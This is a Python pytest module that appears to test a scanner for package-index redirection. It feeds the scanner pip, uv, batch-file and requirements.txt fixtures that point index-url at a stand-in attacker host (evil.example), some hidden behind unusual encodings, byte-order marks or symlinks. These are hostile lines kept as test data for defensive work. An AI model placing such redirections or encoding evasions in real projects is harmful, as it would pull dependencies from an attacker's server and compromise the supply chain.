"""Whole projects: hostile ones, each with every place that has to be found, and honest ones, in which nothing is.

Two text files hold them, so that a project reads as it lies on disk: ``==== name``, then ``finds file:line …``, then
``---- file`` before each file. ``{evil}``, ``{mirror}``, ``{mirror_bare}`` and ``{files}`` stand for addresses.
"""

from pathlib import Path

import pytest

from tests.noegress.surfaces.conftest import EVIL, MIRROR, Bench

HERE = Path(__file__).parent
ADDRESSES = {
    "{evil}": EVIL,
    "{files}": MIRROR.replace("+simple/", "+f/ab/"),
    "{mirror}": MIRROR,
    "{mirror_bare}": MIRROR.rstrip("/"),
}


def projects(name: str) -> dict[str, str]:
    text = (HERE / name).read_text("utf-8")
    for word, address in ADDRESSES.items():
        text = text.replace(word, address)
    return dict(part.split("\n", 1) for part in text.split("==== ")[1:])


HOSTILE = projects("hostile_projects.txt")
HONEST = projects("honest_projects.txt")


def write(bench: Bench, text: str) -> None:
    for part in f"\n{text}".split("\n---- ")[1:]:
        name, _, content = part.partition("\n")
        bench.write(name, content.rstrip("\n") + "\n")


@pytest.mark.parametrize("case", HOSTILE)
def test_every_place_of_a_hostile_project_is_found(bench: Bench, case: str) -> None:
    found, _, files = HOSTILE[case].partition("\n")
    write(bench, files)
    assert sorted(set(bench.places())) == sorted(found.removeprefix("finds ").split())


@pytest.mark.parametrize("case", HONEST)
def test_an_honest_project_is_clean(bench: Bench, case: str) -> None:
    write(bench, HONEST[case])
    assert [(violation.place, violation.text) for violation in bench.violations()] == []


BYTES: dict[str, tuple[str, bytes, list[str]]] = {
    "pip.ini, CRLF": ("pip.ini", f"[global]\r\nindex-url={EVIL}\r\n".encode(), ["pip.ini:2"]),
    "pip.conf, UTF-16": ("pip.conf", f"[global]\nindex-url = {EVIL}\n".encode("utf-16"), ["pip.conf:2"]),
    "Windows launcher": ("ci.bat", f"py -3 -m pip install -i {EVIL} x\r\n".encode(), ["ci.bat:1"]),
    "cmd, quoted": ("ci.cmd", f'set "PIP_INDEX_URL={EVIL}"\r\n'.encode(), ["ci.cmd:1"]),
    "cmd, continued": ("ci.cmd", f"pip install ^\r\n  --index-url {EVIL} x\r\n".encode(), ["ci.cmd:1"]),
    "a declared encoding": (
        "requirements.txt",
        f"# -*- coding: latin-1 -*-\n# \u00e9\n-i {EVIL}\n".encode("latin-1"),
        ["requirements.txt:3"],
    ),
    "an encoding that hides": (
        "requirements.txt",
        b"# -*- coding: utf-7 -*-\n+AC0-i https://evil.example/simple/\n",
        ["requirements.txt:2"],
    ),
    "an encoding that does not exist": ("requirements.txt", b"# coding: none\nsix\n", ["requirements.txt"]),
    "a mark that wins over a declaration": (
        "requirements.txt",
        f"\ufeff# coding=utf-16\n-i {EVIL}\n".encode(),
        ["requirements.txt:2"],
    ),
    "two marks": ("requirements.txt", f"\ufeff-i {EVIL}\n".encode("utf-16"), ["requirements.txt:1"]),
    "two marks, the second of the other order": (
        "requirements.txt",
        b"\xff\xfe\xfe\xff" + f"-i {EVIL}\n".encode("utf-16-be"),
        ["requirements.txt:1"],
    ),
    "UTF-32, two marks": ("requirements.txt", f"\ufeff-i {EVIL}\n".encode("utf-32"), ["requirements.txt:1"]),
    "UTF-32": ("requirements.txt", f"-i {EVIL}\n".encode("utf-32"), ["requirements.txt:1"]),
    "a line separator": ("requirements.txt", f"# c\u2028-i {EVIL}\n".encode(), ["requirements.txt:2"]),
    "a space that is none": ("requirements.txt", f"-i\u00a0{EVIL}\n".encode(), ["requirements.txt:1"]),
    "carriage returns alone": ("requirements.txt", f"# c\r-i {EVIL}\r".encode(), ["requirements.txt:2"]),
    "a mark before TOML": ("pyproject.toml", f'\ufeff[tool.uv]\nindex-url = "{EVIL}"\n'.encode(), ["pyproject.toml:2"]),
}


@pytest.mark.parametrize("case", BYTES)
def test_a_file_is_decoded_as_its_tool_decodes_it(bench: Bench, case: str) -> None:
    name, content, places = BYTES[case]
    bench.write(name, content)
    assert bench.places() == places


def test_a_link_is_read_where_it_leads(bench: Bench) -> None:
    outside = bench.configure("elsewhere", f'index-url = "{EVIL}"\n')
    (bench.directory / "uv.toml").symlink_to(outside)
    assert bench.places() == ["uv.toml:1"]
